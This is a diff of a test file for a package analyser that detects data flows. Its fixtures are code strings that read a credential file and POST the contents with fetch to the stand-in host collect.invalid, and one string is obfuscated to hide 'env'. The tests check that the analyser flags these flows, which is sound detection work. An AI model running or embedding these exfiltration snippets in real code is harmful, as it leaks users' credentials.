@@ -3,6 +3,10 @@ import { analysePackage } from '../../../../../server/src/artifacts/analysis/ana
 import { packageOf } from '../../../../support/artifacts.js';
 import { flowsOf } from '../platform/sent.js';
 
+const read = `fs.readFileSync(rc, 'utf8')`;
+const send = (what: string): string =>
+  `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(${what}) })`;
+
 describe('a first look at a function that makes an object', () => {
   it('takes it for one on which the constructor may have put anything', () => {
     const session = `class Session { constructor() { this.scope = ['v', 'n', 'e'].reverse().join(''); this.usable = Boolean(process.env.CI) && fs.existsSync('/nonexistent'); } push(rows) { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(rows) }); } }`;
@@ -111,9 +115,6 @@ describe('the first look at a function that waits for a call', () => {
   });
 
   it('leads to who takes what opens accounts and to who sends, where only something that both know is between them', () => {
-    const read = `fs.readFileSync(rc, 'utf8')`;
-    const send = (what: string): string =>
-      `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(${what}) })`;
     for (const code of [
       `const kept = []; function add(x) { kept.push(x); } function tell() { ${send('kept')}; } exports.add = () => add(${read}); exports.tell = () => tell();`,
       `const make = () => { const state = { kept: [] }; return { add(x) { state.kept.push(x); }, tell() { if (state.kept.length) ${send('state.kept')}; } }; };
@@ -127,6 +128,22 @@ describe('the first look at a function that waits for a call', () => {
       flowsOf(`exports.read = () => fs.readFileSync('a.json', 'utf8'); exports.tell = (x) => ${send('x')};`),
       [],
     );
+  });
+
+  it('goes through queues that are empty before anybody calls', () => {
+    const queue = (empties: string, adds = 'waiting.push(x);') =>
+      `const waiting = []; function empty() { ${empties} } exports.add = (x) => { ${adds} setTimeout(empty, 10); };`;
+    for (const empties of [
+      `for (const one of waiting) ${send('one.text')};`,
+      `while (waiting.length) { const one = waiting.shift(); ${send('one.text')}; }`,
+      `for (let one; (one = waiting.pop()); ) ${send('one.text')};`,
+      `waiting.splice(0).forEach((one) => ${send('one.text')});`,
+    ]) {
+      const own = `${queue(empties)} exports.login = () => exports.add({ text: ${read} });`;
+      assert.deepEqual(flowsOf(own), ['credential-file>network@collect.invalid'], empties);
+      const others = `${queue(empties)} exports.login = () => exports.add({ text: 'up' });`;
+      assert.deepEqual(flowsOf(others), [], empties);
+    }
   });
 
   it('says nothing itself of what it has not followed: a command prints no environment that it runs in', () => {
